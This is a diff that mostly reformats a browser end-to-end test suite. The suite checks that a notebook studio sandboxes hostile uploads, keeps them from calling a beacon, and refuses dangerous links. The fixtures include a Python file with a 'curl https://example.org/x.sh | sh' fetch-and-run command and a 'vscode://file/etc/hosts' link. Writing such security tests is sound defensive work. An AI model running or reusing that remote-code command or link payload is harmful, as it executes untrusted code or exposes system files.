@@ -41,7 +41,9 @@ before(async () => {
   });
   await new Promise<void>((resolve) => images.listen(imagesPort, "127.0.0.1", resolve));
   imagesUrl = `http://127.0.0.1:${imagesPort}/`;
-  studio = await startBrowserStudio([{ name: "ada", password: PASSWORD }], { "image-allow-loopback": `127.0.0.1:${imagesPort}` });
+  studio = await startBrowserStudio([{ name: "ada", password: PASSWORD }], {
+    "image-allow-loopback": `127.0.0.1:${imagesPort}`,
+  });
   browser = await launchBrowser();
 });
 
@@ -99,9 +101,21 @@ test("sign in, make a workspace, review and upload with the trust statement", as
   assert.match(new URL(workspaceUrl).pathname, /^\/w\/[A-Za-z0-9_-]{16}$/);
 
   await page.getByLabel("Upload files…").setInputFiles([
-    { name: "page-attack.ipynb", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(pageAttackNotebook(beaconUrl))) },
-    { name: "frames.ipynb", mimeType: "application/json", buffer: Buffer.from(JSON.stringify(frameAttackNotebook(beaconUrl))) },
-    { name: "fetch.py", mimeType: "text/x-python", buffer: Buffer.from("import os\nos.system('curl https://example.org/x.sh | sh')\n") },
+    {
+      name: "page-attack.ipynb",
+      mimeType: "application/json",
+      buffer: Buffer.from(JSON.stringify(pageAttackNotebook(beaconUrl))),
+    },
+    {
+      name: "frames.ipynb",
+      mimeType: "application/json",
+      buffer: Buffer.from(JSON.stringify(frameAttackNotebook(beaconUrl))),
+    },
+    {
+      name: "fetch.py",
+      mimeType: "text/x-python",
+      buffer: Buffer.from("import os\nos.system('curl https://example.org/x.sh | sh')\n"),
+    },
     { name: "broken.ipynb", mimeType: "application/json", buffer: Buffer.from('{"nbformat": 4,') },
   ]);
   const dialog = page.getByRole("dialog", { name: /Upload 4 files/ });
@@ -119,7 +133,8 @@ test("sign in, make a workspace, review and upload with the trust statement", as
   await dialog.getByText("Stored as version 1").nth(2).waitFor();
   await page.screenshot({ path: `${SHOTS}studio-upload-done.png` });
   await dialog.getByRole("button", { name: "Close" }).click();
-  for (const name of ["page-attack.ipynb", "frames.ipynb", "fetch.py"]) await page.getByRole("link", { name }).waitFor();
+  for (const name of ["page-attack.ipynb", "frames.ipynb", "fetch.py"])
+    await page.getByRole("link", { name }).waitFor();
   assert.equal(await page.getByRole("link", { name: "broken.ipynb" }).count(), 0, "the refused file was not stored");
   assert.deepEqual(errors, []);
   await page.close();
@@ -139,7 +154,10 @@ test("a hostile notebook runs nothing in the studio page and reaches nothing", a
   assert.deepEqual(beaconHits, [], "the page never called the beacon");
   // The fake overlay is held inside its cell's box: it covers none of the studio's controls.
   const signOut = await page.getByRole("button", { name: "Sign out" }).boundingBox();
-  const hit = await page.evaluate(({ x, y }) => document.elementFromPoint(x, y)?.textContent ?? "", { x: (signOut?.x ?? 0) + 5, y: (signOut?.y ?? 0) + 5 });
+  const hit = await page.evaluate(({ x, y }) => document.elementFromPoint(x, y)?.textContent ?? "", {
+    x: (signOut?.x ?? 0) + 5,
+    y: (signOut?.y ?? 0) + 5,
+  });
   assert.equal(hit, "Sign out");
   assert.deepEqual(errors, []);
   await page.screenshot({ path: `${SHOTS}studio-hostile-page.png`, fullPage: false });
@@ -167,9 +185,16 @@ test("outputs run only in their sandboxed frames on the content origin, which ca
   assert.equal(await page.evaluate((attr) => document.documentElement.getAttribute(attr), PWNED), null);
   assert.deepEqual(beaconHits, []);
   // Frames are sized from their height messages, those out of view included.
-  await page.waitForFunction(() => [...document.querySelectorAll<HTMLIFrameElement>("iframe.vt-frame")].every((f) => f.style.height !== ""));
-  const heights = await frames.evaluateAll((list) => list.map((f) => (f as HTMLIFrameElement).getBoundingClientRect().height));
-  assert.ok(heights.every((h) => h >= 16 && h <= 4000), JSON.stringify(heights));
+  await page.waitForFunction(() =>
+    [...document.querySelectorAll<HTMLIFrameElement>("iframe.vt-frame")].every((f) => f.style.height !== ""),
+  );
+  const heights = await frames.evaluateAll((list) =>
+    list.map((f) => (f as HTMLIFrameElement).getBoundingClientRect().height),
+  );
+  assert.ok(
+    heights.every((h) => h >= 16 && h <= 4000),
+    JSON.stringify(heights),
+  );
   assert.deepEqual(errors, []);
   await page.screenshot({ path: `${SHOTS}studio-frames.png`, fullPage: true });
   await page.close();
@@ -219,7 +244,13 @@ test("links ask before they leave, refuse what is dangerous, and images come onl
         execution_count: 1,
         metadata: {},
         source: "HTML(...)",
-        outputs: [{ output_type: "display_data", metadata: {}, data: { "text/html": '<p><a href="vscode://file/etc/hosts">open in editor</a></p>' } }],
+        outputs: [
+          {
+            output_type: "display_data",
+            metadata: {},
+            data: { "text/html": '<p><a href="vscode://file/etc/hosts">open in editor</a></p>' },
+          },
+        ],
       },
     ],
   };
@@ -230,7 +261,13 @@ test("links ask before they leave, refuse what is dangerous, and images come onl
       const form = new FormData();
       form.append("acknowledgment", "trusted-source-v1");
       form.append("file", new Blob([body]), "links.ipynb");
-      return (await fetch(`/api/workspaces/${id}/files`, { method: "POST", headers: { "x-csrf-token": csrfToken }, body: form })).status;
+      return (
+        await fetch(`/api/workspaces/${id}/files`, {
+          method: "POST",
+          headers: { "x-csrf-token": csrfToken },
+          body: form,
+        })
+      ).status;
     },
     { id, body: JSON.stringify(notebook) },
   );
@@ -240,7 +277,9 @@ test("links ask before they leave, refuse what is dangerous, and images come onl
   // The allowed image is shown from the content origin's proxy, which fetched it without cookies or referrer.
   const chart = page.getByRole("img", { name: "chart" });
   await chart.waitFor();
-  await page.waitForFunction(() => (document.querySelector('img[alt="chart"]') as HTMLImageElement | null)?.naturalWidth === 40);
+  await page.waitForFunction(
+    () => (document.querySelector('img[alt="chart"]') as HTMLImageElement | null)?.naturalWidth === 40,
+  );
   assert.equal(new URL((await chart.getAttribute("src")) ?? "").origin, studio.content);
   assert.equal(imageRequests.length, 1);
   assert.equal(imageRequests[0]?.cookie, undefined);
@@ -272,7 +311,11 @@ test("links ask before they leave, refuse what is dangerous, and images come onl
   // A link elsewhere in the studio, outside this workspace, asks first, then opens in place.
   await page.getByRole("link", { name: "all workspaces" }).click();
   await dialog.getByRole("heading", { name: "This link leaves this workspace" }).waitFor();
-  assert.equal(await dialog.getByRole("button", { name: /^Trust/ }).count(), 0, "nothing to trust about the studio itself");
+  assert.equal(
+    await dialog.getByRole("button", { name: /^Trust/ }).count(),
+    0,
+    "nothing to trust about the studio itself",
+  );
   await dialog.getByRole("button", { name: "Open" }).click();
   await page.waitForURL((url) => url.pathname === "/");
   await page.goBack();
@@ -283,6 +326,9 @@ test("links ask before they leave, refuse what is dangerous, and images come onl
   await page.getByRole("link", { name: "next part" }).click();
   await page.waitForURL(/\/f\/part2\.ipynb$/);
   await page.getByText("There is no such file here.").waitFor();
-  assert.deepEqual(errors.filter((e) => !/404/.test(e)), []);
+  assert.deepEqual(
+    errors.filter((e) => !/404/.test(e)),
+    [],
+  );
   await page.close();
 });
